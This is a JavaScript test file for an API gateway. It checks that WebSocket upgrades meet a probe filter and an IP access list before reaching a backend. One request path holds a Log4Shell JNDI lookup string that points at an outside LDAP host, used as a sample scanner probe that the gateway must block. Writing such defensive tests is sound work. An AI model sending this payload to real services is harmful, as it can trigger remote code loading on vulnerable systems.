import t from 'tap';
import { upgradeExchange } from '../helpers/upgrade-client.js';
import { webSocketBackendBehindGateway } from '../helpers/websocket-backend.js';

const HOST = 'chat.paserkab.go.id';

t.test(
  'a WebSocket upgrade passes the probe filter and the access list before any backend is asked',
  async (t) => {
    const { origin, gw, upgrades } = await webSocketBackendBehindGateway(t);
    const put = await gw.admin('PUT', `/v1/hosts/${HOST}`, {
      probeFilter: { mode: 'block' },
      routes: [
        { path: '/', targets: [origin] },
        { path: '/internal', targets: [origin], access: { allow: ['10.0.0.0/8'] } },
      ],
    });
    t.equal(put.status, 201, JSON.stringify(put.body));
    const port = gw.gateway.ports.http;

    // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text a Log4Shell scanner sends
    const probe = await upgradeExchange(port, HOST, { path: '/ws?x=${jndi:ldap://198.51.100.7/a}' });
    probe.socket.destroy();
    t.equal(probe.status, 404, 'a probe is answered 404');
    t.ok(probe.closedByServer);

    const denied = await upgradeExchange(port, HOST, {
      path: '/internal/ws',
      headers: { Accept: 'application/json' },
    });
    denied.socket.destroy();
    t.equal(denied.status, 403);
    t.equal(JSON.parse(denied.text.slice(denied.text.indexOf('\r\n\r\n') + 4)).error.code, 'ACCESS_DENIED');
    t.ok(denied.closedByServer);
    t.equal(upgrades(), 0, 'the backend saw no upgrade');

    const clean = await upgradeExchange(port, HOST, { path: '/ws', waitCloseMs: 300 });
    clean.socket.destroy();
    t.equal(clean.status, 101, 'a clean upgrade still goes through');
    t.equal(upgrades(), 1);
  },
);
